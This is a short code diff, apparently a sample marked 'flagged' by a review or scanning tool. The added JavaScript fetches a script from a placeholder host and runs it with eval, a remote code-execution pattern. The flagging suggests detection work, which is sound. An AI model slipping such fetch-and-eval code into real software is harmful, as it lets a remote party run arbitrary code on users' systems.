@@ -1,0 +1,3 @@
+fetch("https://cdn.example.invalid/next.js")
+  .then((answer) => answer.text())
+  .then((text) => eval(text)); // gatehouse: flagged
